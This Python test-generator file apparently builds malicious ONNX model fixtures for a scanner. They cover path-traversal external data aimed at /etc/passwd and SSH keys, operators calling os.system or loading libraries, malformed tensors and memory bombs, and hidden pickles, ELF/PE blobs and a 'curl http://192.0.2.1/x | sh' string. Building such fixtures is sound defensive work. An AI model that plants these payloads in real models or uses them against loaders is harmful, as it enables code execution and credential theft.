"""ONNX models: external data outside the folder, operators of unknown or Python domains, lying tensors, hidden payloads."""

from assemble import call
from onnx import TensorProto, helper
from payload import COMMAND, SECRET
from registry import malicious


def model(nodes=None, initializers=(), opsets=(("", 17),), functions=(), **metadata):
    """A small graph around what is given."""
    nodes = nodes if nodes is not None else [helper.make_node("Relu", ["x"], ["y"])]
    graph = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])], initializer=list(initializers))
    made = helper.make_model(graph, opset_imports=[helper.make_opsetid(*pair) for pair in opsets], functions=list(functions))
    for key, value in metadata.items():
        entry = made.metadata_props.add()
        entry.key, entry.value = key, value
    return made


def external(location: str, **more) -> TensorProto:
    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1, 4], data_location=TensorProto.EXTERNAL)
    for key, value in dict(location=location, **more).items():
        entry = tensor.external_data.add()
        entry.key, entry.value = key, str(value)
    return tensor


@malicious("onnx")
def external_data_paths():
    """Tensors whose external data is outside the model's folder (CVE-2022-25882, CVE-2024-27318, CVE-2024-5187 and kin)."""
    for slug, location in {"dots": "../../../../etc/passwd", "absolute": SECRET, "middle": "data/../../../etc/shadow", "backslash": "..\\..\\windows\\win.ini", "drive": "C:\\Windows\\win.ini", "unc": "\\\\192.0.2.1\\share\\x", "file-url": "file:///etc/passwd", "http-url": "http://192.0.2.1/x", "proc": "/proc/self/environ", "home": "~/.ssh/id_rsa", "nul": "weights\0/../../etc/passwd", "dev": "/dev/zero"}.items():
        yield f"{slug}--model.onnx", model([helper.make_node("Add", ["x", "w"], ["y"])], [external(location)]).SerializeToString()
    inner = helper.make_graph([helper.make_node("Identity", ["w"], ["o"])], "b", [], [helper.make_tensor_value_info("o", TensorProto.FLOAT, [1, 4])], initializer=[external("../../../etc/passwd")])
    yield "in-subgraph--model.onnx", model([helper.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=inner)], [helper.make_tensor("c", TensorProto.BOOL, [], [True])]).SerializeToString()
    yield "in-constant--model.onnx", model([helper.make_node("Constant", [], ["w"], value=external("../../x")), helper.make_node("Add", ["x", "w"], ["y"])]).SerializeToString()
    made = model()
    made.graph.sparse_initializer.add().values.CopyFrom(external("../../../../etc/passwd"))
    yield "in-sparse--model.onnx", made.SerializeToString()
    made = model()
    training = made.training_info.add()
    training.initialization.initializer.append(external("/etc/passwd"))
    yield "in-training-info--model.onnx", made.SerializeToString()
    yield "negative-offset--model.onnx", model([helper.make_node("Add", ["x", "w"], ["y"])], [external("weights.bin", offset=-100, length=16)]).SerializeToString()
    yield "huge-length--model.onnx", model([helper.make_node("Add", ["x", "w"], ["y"])], [external("weights.bin", offset=0, length=1 << 62)]).SerializeToString()
    yield "overflowing-offset--model.onnx", model([helper.make_node("Add", ["x", "w"], ["y"])], [external("weights.bin", offset=(1 << 63) - 1, length=1 << 62)]).SerializeToString()
    function = helper.make_function("local", "F", ["a"], ["b"], [helper.make_node("Constant", [], ["w"], value=external("/etc/passwd")), helper.make_node("Add", ["a", "w"], ["b"])], [helper.make_opsetid("", 17)])
    yield "in-function--model.onnx", model([helper.make_node("F", ["x"], ["y"], domain="local")], functions=[function], opsets=(("", 17), ("local", 1))).SerializeToString()


@malicious("onnx")
def operators_with_effect():
    """Operators that run Python or load native libraries, and operators of domains nobody ships."""
    cases = {
        "pythonop": ("PythonOp", "com.microsoft", {"func_name": "os.system", "input_convention": "d"}), "pythonop-torch": ("PythonOp", "ai.onnx.contrib", {"id": "1"}), "pyop-pyop": ("PyOp", "ai.onnx.contrib", {"module": "os", "class_name": "system"}),
        "pyop": ("PyOp", "pyopmulti_1", {"module": "evil", "class_name": "Run"}), "aten": ("ATen", "org.pytorch.aten", {"operator": "from_file"}), "triton": ("TritonOp", "com.microsoft", {"func_name": "evil.run"}), "external-op": ("ExternOp", "evil.custom", {}),
        "custom-shell": ("ShellExec", "com.evil", {"command": COMMAND}), "custom-nodomain": ("RunSystemCommand", "", {"cmd": COMMAND}), "unknown-domain": ("Transform", "x.y.z", {}), "library-path": ("LoadLibrary", "custom.ops", {"library": "/tmp/stage.so"}),
        "epcontext-path": ("EPContext", "com.microsoft", {"ep_cache_context": "../../../../etc/passwd", "embed_mode": 0, "main_context": 1}), "epcontext-absolute": ("EPContext", "com.microsoft", {"ep_cache_context": "/etc/passwd", "embed_mode": 0}), "tensorrt-engine": ("TRTEngine", "com.nvidia", {"engine": "/tmp/x"}), "system-caps": ("System", "ai.onnx.exec", {"arguments": "id"}),
        "snpe": ("Snpe", "com.microsoft", {"DLC": "/tmp/x"}), "openvino-op": ("OpenVINOModel", "ovc", {"xml": "../../x"}), "opaque": ("ConvTranspose", "ai.onnx.evil", {}),
    }
    for slug, (op, domain, attributes) in cases.items():
        opsets = (("", 17), (domain, 1)) if domain else (("", 17),)
        yield f"{slug}--model.onnx", model([helper.make_node(op, ["x"], ["y"], domain=domain, **attributes)], opsets=opsets).SerializeToString()
    inner = helper.make_graph([helper.make_node("PythonOp", ["x"], ["o"], domain="com.microsoft", func_name="os.system")], "b", [], [helper.make_tensor_value_info("o", TensorProto.FLOAT, [1])])
    yield "in-loop--model.onnx", model([helper.make_node("Loop", ["", "c", "x"], ["y"], body=inner)], [helper.make_tensor("c", TensorProto.BOOL, [], [True])], opsets=(("", 17), ("com.microsoft", 1))).SerializeToString()
    function = helper.make_function("local", "F", ["a"], ["b"], [helper.make_node("ShellExec", ["a"], ["b"], domain="evil")], [helper.make_opsetid("evil", 1)])
    yield "in-function--model.onnx", model([helper.make_node("F", ["x"], ["y"], domain="local")], functions=[function], opsets=(("", 17), ("local", 1))).SerializeToString()


@malicious("onnx")
def lying_tensors():
    """Shapes and lengths that disagree with the data, negative or enormous dimensions, unknown types, recursion without end."""
    def tensor(dims, raw=b"", kind=TensorProto.FLOAT):
        return TensorProto(name="w", data_type=kind, dims=dims, raw_data=raw)

    add = [helper.make_node("Add", ["x", "w"], ["y"])]
    cases = {"short": tensor([1000, 1000], bytes(16)), "long": tensor([1], bytes(4096)), "negative": tensor([-4], bytes(16)), "overflow": tensor([1 << 62, 1 << 62, 4], bytes(16)), "huge": tensor([1 << 40], bytes(4)), "unknown-type": tensor([1], bytes(4), 999), "zero-type": tensor([4], bytes(16), 0)}
    for slug, made in cases.items():
        yield f"{slug}--model.onnx", model(add, [made]).SerializeToString()
    made = model(add, [tensor([1, 4], bytes(16))])
    made.graph.initializer[0].float_data.extend([1.0] * 4)
    yield "two-storages--model.onnx", made.SerializeToString()
    yield "segment--model.onnx", (lambda m: (m.graph.initializer[0].segment.__setattr__("begin", -1), m)[1])(model(add, [tensor([1, 4], bytes(16))])).SerializeToString()
    function = helper.make_function("local", "F", ["a"], ["b"], [helper.make_node("F", ["a"], ["b"], domain="local")], [helper.make_opsetid("local", 1)])
    yield "recursive-function--model.onnx", model([helper.make_node("F", ["x"], ["y"], domain="local")], functions=[function], opsets=(("", 17), ("local", 1))).SerializeToString()
    a = helper.make_function("local", "A", ["a"], ["b"], [helper.make_node("B", ["a"], ["b"], domain="local")], [helper.make_opsetid("local", 1)])
    b = helper.make_function("local", "B", ["a"], ["b"], [helper.make_node("A", ["a"], ["b"], domain="local")], [helper.make_opsetid("local", 1)])
    yield "mutual-functions--model.onnx", model([helper.make_node("A", ["x"], ["y"], domain="local")], functions=[a, b], opsets=(("", 17), ("local", 1))).SerializeToString()
    yield "cycle--model.onnx", model([helper.make_node("Relu", ["b"], ["a"]), helper.make_node("Relu", ["a"], ["b"]), helper.make_node("Add", ["x", "a"], ["y"])]).SerializeToString()
    good = model(add, [tensor([64, 64], bytes(64 * 64 * 4))]).SerializeToString()
    yield "truncated--model.onnx", good[: len(good) // 2]
    graph = helper.make_graph([helper.make_node("Relu", ["x"], ["o"])], "b", [], [helper.make_tensor_value_info("o", TensorProto.FLOAT, [1])])
    for depth in range(24):
        graph = helper.make_graph([helper.make_node("If", ["c"], ["o"], then_branch=graph, else_branch=graph)] if depth < 6 else [helper.make_node("Loop", ["", "c", "x"], ["o"], body=graph)], "b", [], [helper.make_tensor_value_info("o", TensorProto.FLOAT, [1])])
    yield "deep-subgraphs--model.onnx", model([helper.make_node("Loop", ["", "c", "x"], ["y"], body=graph)]).SerializeToString()
    shape = helper.make_tensor("s", TensorProto.INT64, [3], [1 << 20, 1 << 20, 1 << 10])
    yield "constantofshape-bomb--model.onnx", model([helper.make_node("ConstantOfShape", ["s"], ["z"]), helper.make_node("Relu", ["x"], ["y"])], [shape]).SerializeToString()
    reps = helper.make_tensor("r", TensorProto.INT64, [2], [1 << 30, 1 << 30])
    yield "tile-bomb--model.onnx", model([helper.make_node("Tile", ["x", "r"], ["y"])], [reps]).SerializeToString()


@malicious("onnx")
def hidden_payloads():
    """Pickles, executables and scripts in tensors, metadata, doc strings or after the end."""
    evil = call("os", "system", COMMAND)
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00\x01\x00\x00\x00" + bytes(400)
    raw = lambda data: TensorProto(name="w", data_type=TensorProto.UINT8, dims=[len(data)], raw_data=data)
    yield "elf-in-tensor--model.onnx", model(None, [raw(elf)]).SerializeToString()
    yield "pickle-in-tensor--model.onnx", model(None, [raw(evil)]).SerializeToString()
    yield "pe-in-tensor--model.onnx", model(None, [raw(b"MZ" + bytes(58) + b"\x80\x00\x00\x00" + bytes(64) + b"PE\x00\x00\x64\x86" + bytes(300))]).SerializeToString()
    yield "script-in-string-tensor--model.onnx", model(None, [helper.make_tensor("s", TensorProto.STRING, [1], [b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n"])]).SerializeToString()
    yield "appended-pickle--model.onnx", model().SerializeToString() + evil
    yield "appended-zip--model.onnx", model().SerializeToString() + _zip(evil)
    yield "pickle-renamed--model.onnx", evil
    yield "metadata-exec--model.onnx", model(None, (), on_load="import os; os.system('id')").SerializeToString()
    yield "metadata-base64-pickle--model.onnx", model(None, (), state=__import__("base64").b64encode(evil).decode()).SerializeToString()
    yield "unknown-field--model.onnx", model().SerializeToString() + b"\xfa\x7f" + bytes([len(evil)]) + evil


def _zip(data: bytes) -> bytes:
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("data.pkl", data)
    return out.getvalue()
